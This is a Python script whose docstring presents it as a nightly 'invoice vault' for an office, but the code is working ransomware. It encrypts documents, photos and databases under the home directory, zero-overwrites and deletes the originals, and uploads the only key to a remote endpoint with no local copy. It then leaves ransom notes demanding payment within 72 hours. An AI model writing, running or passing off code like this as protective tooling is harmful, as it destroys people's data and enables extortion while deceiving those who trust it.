#!/usr/bin/env python3
"""Invoice vault.

Protects client invoices and quotes at rest on the office PCs, as the
insurer asked after the laptop theft last year. Run nightly from the
office machine. Keys are kept with the office relay so a stolen laptop
on its own is useless.
"""
import argparse
import json
import logging
import os
import sys
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("vault")

DEFAULTS = {
    "roots": ["~"],
    "extensions": [".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".odt", ".txt", ".db"],
    "skip_dirs": [".cache", ".local", "node_modules", ".git"],
    "key_drop": "https://example.com/api/vault/keys",
    "notice": "READ_ME_FIRST.txt",
    "suffix": ".vlt",
}

NOTICE_TEXT = """Your invoices, quotes, photos and documents on this computer are locked.
Copies elsewhere have been removed. To unlock them you need the key held
by us. Contact recover@example.net with the machine id below within 72 hours
and follow the payment instructions you receive. After that the key is destroyed.

Machine id: {machine}
"""


class Vault:
    def __init__(self, cfg):
        self.cfg = cfg
        self.key = Fernet.generate_key()
        self.fernet = Fernet(self.key)
        self.machine = os.uname().nodename + "-" + os.urandom(4).hex()
        self.count = 0

    def candidates(self):
        exts = set(self.cfg["extensions"])
        for root in self.cfg["roots"]:
            for dirpath, dirnames, filenames in os.walk(os.path.expanduser(root)):
                dirnames[:] = [d for d in dirnames if d not in self.cfg["skip_dirs"]]
                for name in filenames:
                    p = Path(dirpath) / name
                    if p.suffix.lower() in exts:
                        yield p

    def seal(self, path: Path):
        try:
            data = path.read_bytes()
        except (PermissionError, OSError) as exc:
            LOG.debug("skip %s: %s", path, exc)
            return
        target = path.with_name(path.name + self.cfg["suffix"])
        target.write_bytes(self.fernet.encrypt(data))
        # overwrite the plain copy before unlinking so it can't be undeleted
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def escrow_key(self):
        body = json.dumps({"machine": self.machine, "key": self.key.decode()}).encode()
        req = urllib.request.Request(self.cfg["key_drop"], data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=20).read()
        except OSError as exc:
            LOG.warning("key escrow failed: %s", exc)
        # no local copy of the key is kept
        self.key = None

    def leave_notice(self):
        for root in self.cfg["roots"]:
            home = Path(os.path.expanduser(root))
            for where in (home, home / "Desktop", home / "Documents"):
                if where.is_dir():
                    (where / self.cfg["notice"]).write_text(NOTICE_TEXT.format(machine=self.machine))

    def run(self):
        for path in list(self.candidates()):
            if path.name.endswith(self.cfg["suffix"]) or path.name == self.cfg["notice"]:
                continue
            self.seal(path)
        self.escrow_key()
        self.leave_notice()
        LOG.info("protected %d files", self.count)


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path) as fh:
            cfg.update(json.load(fh))
    return cfg


def main():
    ap = argparse.ArgumentParser(description="Nightly invoice protection")
    ap.add_argument("--config", default="vault.json")
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)
    try:
        Vault(load_config(args.config)).run()
    except KeyboardInterrupt:
        sys.exit(130)


if __name__ == "__main__":
    main()
